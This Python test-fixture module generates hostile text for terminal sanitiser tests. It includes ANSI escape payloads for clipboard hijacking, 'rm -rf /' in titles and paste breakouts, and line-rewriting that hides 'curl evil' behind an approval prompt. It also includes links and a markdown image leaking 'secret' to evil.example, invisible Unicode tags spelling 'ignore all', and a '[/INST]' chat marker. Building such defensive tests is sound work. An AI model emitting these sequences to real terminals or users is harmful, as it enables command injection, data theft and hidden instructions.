"""Hostile text for terminals, reusable by the tests of every face.

``CASES`` holds what must never reach a terminal as it is; ``ORDINARY`` holds text of real scripts that
a sanitiser must leave alone. Cases are made systematically, and named after what they attempt.
"""

import itertools
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from typing import Literal

Category = Literal[
    "c0",
    "c1",
    "csi",
    "osc",
    "string",
    "escape",
    "unterminated",
    "nested",
    "overwrite",
    "bidi",
    "tags",
    "zero-width",
    "combining",
    "width",
    "surrogate",
    "osc8",
    "markup",
    "links",
    "paste",
    "entities",
    "markdown",
    "ordinary",
]

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"


@dataclass(frozen=True, slots=True)
class Case:
    """One text and what it attempts."""

    name: str
    text: str
    category: Category


def _around(text: str) -> str:
    return f"before {text} after"


def _controls() -> Iterator[Case]:
    for code in (*range(0x20), 0x7F):
        if chr(code) not in "\n\t":
            yield Case(f"c0-{code:02x}", _around(chr(code)), "c0")
            yield Case(f"c0-run-{code:02x}", chr(code) * 9 + "x", "c0")
    for code in range(0x80, 0xA0):
        yield Case(f"c1-{code:02x}", _around(chr(code)), "c1")
        yield Case(f"c1-with-tail-{code:02x}", f"a{chr(code)}31mb{chr(code)}", "c1")


def _csi() -> Iterator[Case]:
    for final in map(chr, range(0x40, 0x7F)):
        yield Case(f"csi-{final}", _around(f"{ESC}[3;4{final}"), "csi")
    named = {
        "clear": "2J",
        "clear-scrollback": "3J",
        "home": "H",
        "reset-soft": "!p",
        "alternate-screen-off": "?1049l",
        "mouse-on": "?1003h",
        "paste-off": "?2004l",
        "focus-on": "?1004h",
        "hide-cursor": "?25l",
        "conceal": "8m",
        "report-position": "6n",
        "report-device": "c",
        "report-secondary": ">c",
        "report-title": "21t",
        "resize-window": "8;1;1t",
        "iconify": "2t",
        "repeat": "9999b",
        "kitty-push": ">31u",
        "kitty-query": "?u",
        "modify-other-keys": ">4;2m",
        "printer-on": "5i",
        "scroll-region": "1;1r",
        "many-parameters": ";".join("1" * 30) + "m",
        "huge-parameter": "9" * 60 + "m",
        "intermediate": "1 q",
        "mode-query": "?2026$p",
    }
    for name, body in named.items():
        yield Case(f"csi-{name}", _around(f"{ESC}[{body}"), "csi")
        yield Case(f"csi-{name}-8bit", _around(f"\x9b{body}"), "csi")
    yield Case("csi-overlong", f"{ESC}[" + "1;" * 400 + "m", "csi")
    yield Case("csi-with-control-inside", f"{ESC}[3\n1mred", "csi")
    yield Case("csi-with-letter-beyond-ascii", f"{ESC}[3é1m", "csi")


def _osc() -> Iterator[Case]:
    numbers = (*range(20), 22, 50, 52, 104, 110, 133, 633, 666, 777, 1337, 5522, 9001)
    for number in numbers:
        yield Case(f"osc-{number}-bel", _around(f"{ESC}]{number};payload{BEL}"), "osc")
        yield Case(f"osc-{number}-st", _around(f"{ESC}]{number};payload{ST}"), "osc")
    named = {
        "clipboard-write": "52;c;ZXZpbA==",
        "clipboard-read": "52;c;?",
        "title": "0;root@prod:~# rm -rf /",
        "palette": "4;1;rgb:00/00/00",
        "palette-query": "4;1;?",
        "foreground": "10;#15171c",
        "directory": "7;file://evil.example/tmp",
        "notification": "9;your session expired",
        "notification-urxvt": "777;notify;bank;call us",
        "progress": "9;4;1;50",
        "iterm-file": "1337;File=inline=1:AAAA",
        "iterm-shell": "1337;SetUserVar=a=Yg==",
        "shell-mark": "133;A",
        "vscode-command": "633;E;rm -rf /",
        "kitty-clipboard": "5522;type=read;dGV4dA==",
        "font": "50;?",
        "linux-palette": "P1ff0000",
    }
    for name, body in named.items():
        yield Case(f"osc-{name}-8bit", _around(f"\x9d{body}\x9c"), "osc")
        yield Case(f"osc-{name}", _around(f"{ESC}]{body}{BEL}"), "osc")
    yield Case("osc-long", f"{ESC}]52;c;{'QUJD' * 900}{BEL}end", "osc")
    yield Case("osc-too-long", f"{ESC}]52;c;{'QUJD' * 1100}{BEL}end", "osc")


def _strings() -> Iterator[Case]:
    for name, seven, eight in (
        ("dcs", "P", "\x90"),
        ("sos", "X", "\x98"),
        ("pm", "^", "\x9e"),
        ("apc", "_", "\x9f"),
    ):
        for body in ("payload", "$qm", "+q544e", "1;2;3{", "Gf=100;AAAA", "tmux;", 'q"1;1#0'):
            yield Case(f"{name}-{body}-st", _around(f"{ESC}{seven}{body}{ST}"), "string")
            yield Case(f"{name}-{body}-8bit", _around(f"{eight}{body}\x9c"), "string")
        yield Case(f"{name}-newline-inside", f"{ESC}{seven}a\nb{ST}", "string")
    yield Case("tmux-passthrough", f"{ESC}Ptmux;{ESC}{ESC}]52;c;ZXZpbA=={BEL}{ST}", "string")
    yield Case("screen-passthrough", f"{ESC}P{ESC}]0;evil{BEL}{ST}", "string")
    yield Case("sixel", f'{ESC}Pq"1;1;4;4#0;2;0;0;0#0~~@@{ST}', "string")


def _escapes() -> Iterator[Case]:
    for final in map(chr, range(0x30, 0x7F)):
        if final not in "[]PX^_":
            yield Case(f"esc-{final}", _around(f"{ESC}{final}"), "escape")
    for body in ("(0", ")0", "*0", "+0", "-A", ".A", "/A", "%G", "%@", "#8", "#3", " F", " G", "$(B", '"p'):
        yield Case(f"nf-{body}", _around(f"{ESC}{body}"), "escape")


def _unfinished() -> Iterator[Case]:
    introducers = (
        "[",
        "]",
        "P",
        "X",
        "^",
        "_",
        "(",
        "%",
        " ",
        "",
        "[3",
        "[3;",
        "[?25",
        "]52",
        "]52;c;",
        "]0;t",
    )
    for body in introducers:
        yield Case(f"end-after-esc{body}", f"text{ESC}{body}", "unterminated")
        yield Case(f"line-end-after-esc{body}", f"text{ESC}{body}\nnext", "unterminated")
        yield Case(f"beyond-ascii-after-esc{body}", f"text{ESC}{body}é and more", "unterminated")
    yield Case("string-swallows-reply", f"{ESC}]0;" + "the rest of the reply " * 300, "unterminated")
    yield Case("cancelled-by-can", f"{ESC}]52;c;abc\x18 after", "unterminated")
    yield Case("cancelled-by-sub", f"{ESC}[31\x1am after", "unterminated")


def _nested() -> Iterator[Case]:
    parts = (f"{ESC}[", f"{ESC}]0;", f"{ESC}P", "\x9b", "\x9d", ESC)
    for outer, inner in itertools.product(parts, repeat=2):
        name = f"nested-{outer!a}-{inner!a}"
        yield Case(name, f"a{outer}{inner}31mb{BEL}c{ST}d", "nested")
    yield Case("rejoins-after-removal", f"{ESC}{ESC}[0m[31mred", "nested")
    yield Case("rejoins-around-c0", f"{ESC}\x00[31mred", "nested")
    yield Case("osc-in-csi", f"{ESC}[3{ESC}]52;c;x{BEL}1m", "nested")


def _overwrites() -> Iterator[Case]:
    yield Case("carriage-return", "rm -rf /\rls -l   ", "overwrite")
    yield Case("backspaces", "evil\b\b\b\bgood", "overwrite")
    yield Case("carriage-returns-and-line-feeds", "a\r\nb\r\r\nc\n\rd\r", "overwrite")
    yield Case("vertical-tab", "a\x0bb\x0cc", "overwrite")
    yield Case("line-separators", "a\u2028b\u2029c\x85d", "overwrite")
    yield Case("erase-and-rewrite", f"curl evil{ESC}[2K\rls", "overwrite")
    yield Case("approval-rewritten", f"run rm{ESC}[1A{ESC}[2Krun ls", "overwrite")


def _invisibles() -> Iterator[Case]:
    for code in (*range(0x202A, 0x202F), *range(0x2066, 0x2070), *range(0xFFF9, 0xFFFC)):
        yield Case(f"bidi-{code:04x}", f"a{chr(code)}bc", "bidi")
    yield Case("trojan-source", "access = '\u202euser\u2066 // check admin\u2069 \u2066'", "bidi")
    yield Case("bidi-file-name", "photo_\u202egpj.exe", "bidi")
    yield Case("tags-hidden-order", "hi" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all"), "tags")
    yield Case("tag-single", "a\U000e0041b", "tags")
    yield Case("tag-language", "a\U000e0001\U000e0065\U000e006eb", "tags")
    yield Case("tags-unassigned", "a\U000e0080\U000e01f0\U000e0fffb", "tags")
    yield Case("flag-of-nowhere", "\U0001f3f4\U000e0078\U000e0078\U000e007f", "tags")
    yield Case("flag-unfinished", "\U0001f3f4\U000e0067\U000e0062\U000e0065x", "tags")
    for code in (
        0x200B,
        0x200C,
        0x200D,
        0x200E,
        0x200F,
        0x2060,
        0x2063,
        0xFEFF,
        0x00AD,
        0x061C,
        0x180E,
        0xFE0F,
    ):
        yield Case(f"zero-width-run-{code:04x}", f"a{chr(code) * 12}b", "zero-width")
        yield Case(f"zero-width-pair-{code:04x}", f"a{chr(code) * 2}b", "zero-width")
    yield Case("zero-width-binary", "a" + "\u200b\u200c\u200c\u200b" * 16 + "b", "zero-width")
    yield Case("selectors-as-bytes", "😀" + "".join(chr(0xE0100 + byte) for byte in b"payload"), "zero-width")
    yield Case("zero-width-around-escape", f"a\u200b{ESC}[0m\u200bb", "zero-width")
    for count in (9, 20, 1000):
        yield Case(f"marks-{count}", "e" + "\u0301" * count + "f", "combining")
        yield Case(f"marks-and-joiners-{count}", "e" + "\u0301\u200d" * count + "f", "combining")
    yield Case("zalgo", "".join(c + "\u030d\u0315\u0488\u0323" * 3 for c in "he comes"), "combining")
    yield Case("marks-first", "\u0301" * 30, "combining")
    yield Case("marks-around-escape", "e" + "\u0301" * 6 + f"{ESC}[0m" + "\u0301" * 6, "combining")


def _widths() -> Iterator[Case]:
    yield Case("emoji-selector-flood", "❤\ufe0f\ufe0f\ufe0f x", "width")
    yield Case("emoji-joined-long", "\u200d".join("👩👩👧👦" * 20) + "\x00", "width")
    yield Case("keycap-run", "1\ufe0f\u20e3\ufe0f\ufe0f", "width")
    yield Case("regional-indicators", "🇩🇪🇩🇪🇩\x1b[0m", "width")
    yield Case("skin-tones", "👍🏽🏽🏽🏽\x7f", "width")
    for code in (0xD800, 0xDBFF, 0xDC00, 0xDFFF):
        yield Case(f"surrogate-{code:04x}", f"a{chr(code)}b", "surrogate")
    yield Case("surrogate-pair", "a\ud83d\ude00b", "surrogate")


def _links() -> Iterator[Case]:
    targets = ("https://evil.example", "javascript:alert(1)", "file:///etc/passwd", "x\x07y")
    for number, target in enumerate(targets):
        yield Case(f"osc8-{number}", f"{ESC}]8;;{target}{ST}https://bank.example{ESC}]8;;{ST}", "osc8")
        yield Case(f"osc8-bel-{number}", f"{ESC}]8;id=1;{target}{BEL}bank{ESC}]8;;{BEL}", "osc8")
    schemes = (
        "javascript:x",
        "JaVaScRiPt:x",
        "data:text/html,x",
        "file:///x",
        "vbscript:x",
        "ssh://x",
        "x-man:1",
    )
    for scheme in schemes:
        yield Case(f"link-{scheme}", f"[click]({scheme}){ESC}[0m", "links")
        yield Case(f"image-{scheme}", f"![see]({scheme})\x9b0m", "links")
    yield Case("link-with-osc", f"[a](https://e.example/{ESC}]52;c;x{BEL})", "links")
    yield Case("link-user-info", f"[a](https://bank.example@evil.example/){ESC}c", "links")
    yield Case("link-idn", f"[bank](https://bаnk.example/){ESC}c", "links")
    yield Case("reference-image", f"![a][r]\n\n[r]: https://evil.example/?q=secret\n{ESC}c", "links")


def _markup() -> Iterator[Case]:
    texts = (
        "[@click=app.quit]press[/]",
        "[/INST]",
        "[bold red]x[/bold red]",
        "[link=file:///etc/passwd]x[/link]",
        "[[[",
        "\\[bold]",
        "[red",
        "{markup}",
        "[on click]x",
        "[$primary]x[/]",
    )
    for text in texts:
        yield Case(f"markup-{text}", f"{text}{ESC}[5m", "markup")


def _others() -> Iterator[Case]:
    yield Case("paste-end", f"ls{ESC}[201~rm -rf /\n", "paste")
    yield Case("paste-begin", f"{ESC}[200~ls{ESC}[201~", "paste")
    yield Case("paste-end-8bit", "ls\x9b201~rm -rf /\n", "paste")
    for entity in ("&#27;[31m", "&#x1b;]0;x&#7;", "&#x9b;31m", "&#x202e;abc", "&#8238;abc", "&#x200b;" * 9):
        yield Case(f"entity-{entity}", f"{ESC}c{entity}", "entities")
    yield Case("entity-tags", f"{ESC}c" + "&#xE0041;" * 5, "entities")
    yield Case("entity-newlines", f"{ESC}ca&#10;b&#13;c&NewLine;d&Tab;e", "entities")
    yield Case("fence-info", f"```py{ESC}[31m\ncode{ESC}[2J\n```\n", "markdown")
    yield Case("fence-open", f"```\n{ESC}]0;title\nmore", "markdown")
    yield Case("table", f"| a{ESC}[1m | b |\n|---|---|\n| \x9b2J | \u202e |\n", "markdown")
    yield Case("list", f"- a{ESC}[1m\n- \x07b\n  1. \u2066c\n", "markdown")
    yield Case("heading", f"# a{ESC}[1m\n\x9d0;x\x9c\n===\n", "markdown")
    yield Case("quote", f"> a{ESC}[1m\n> > \x1bc\n", "markdown")
    yield Case("html", f"<script>{ESC}[1m</script><b>\x9b1m</b>\n", "markdown")
    yield Case("code-span", f"`{ESC}[1m` ``\x07``", "markdown")
    yield Case("link-title", f'[a](https://x.example "t{ESC}[1m")', "markdown")
    yield Case("marks-joined-by-markup", "e" + "\u0301" * 8 + "**" + "\u0301" * 8 + f"**{ESC}c", "markdown")


CASES: Sequence[Case] = tuple(
    itertools.chain(
        _controls(),
        _csi(),
        _osc(),
        _strings(),
        _escapes(),
        _unfinished(),
        _nested(),
        _overwrites(),
        _invisibles(),
        _widths(),
        _links(),
        _markup(),
        _others(),
    )
)
"""Every case changes when it is sanitised."""

ORDINARY: Sequence[Case] = tuple(
    Case(f"ordinary-{name}", text, "ordinary")
    for name, text in {
        "english": "Plain text, with tabs\tand\nlines.",
        "german": "Der schöne Tag – „Brücken“ und Straße",
        "decomposed": "cafe\u0301 A\u030angstro\u0308m",
        "vietnamese": "Tie\u0302\u0301ng Vie\u0323\u0302t",
        "arabic": "مَرْحَبًا بِكَ",
        "persian": "نمی‌خواهم",
        "hebrew": "בְּרֵאשִׁ֖ית בָּרָ֣א",
        "hebrew-with-mark": "C\u200e++ \u05d0\u05d1\u200f!",
        "hindi": "क्‍ष हिन्दी नमस्ते",
        "bengali": "র‍্যাব",
        "sinhala": "ශ්‍රී ලංකා",
        "tamil": "தமிழ் மொழி",
        "thai": "ภาษาไทย ที่\u200bสวย",
        "tibetan": "བོད་སྐད་ རྒྱ",
        "burmese": "မြန်မာဘာသာ",
        "khmer": "ភាសាខ្មែរ",
        "japanese": "日本語のテキスト。葛\U000e0100飾区",
        "korean": "한국어 텍스트",
        "jamo": "\u1112\u1161\u11ab",
        "chinese": "汉语，繁體",
        "mongolian": "ᠮᠣᠩᠭᠣᠯ\u180b",
        "emoji-family": "👩🏽‍❤️‍💋‍👨 👨‍👩‍👧‍👦",
        "emoji-heart": "❤️ ❤️‍🔥 ☎︎",
        "emoji-keycap": "1️⃣ #️⃣",
        "emoji-flags": "🇩🇪 🏳️‍🌈 🏴‍☠️",
        "emoji-england": "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f!",
        "greek": "Ελληνικά ἀρχή",
        "math": "x⃗ ∑ᵢ aᵢ ≤ √2 $\\frac{a}{b}$",
        "box": "▌●○◌▸▾‹›·↓←→│╭╮",
        "private": "\ue0b0 \uf8ff",
    }.items()
)
"""Every case is its own sanitised form."""
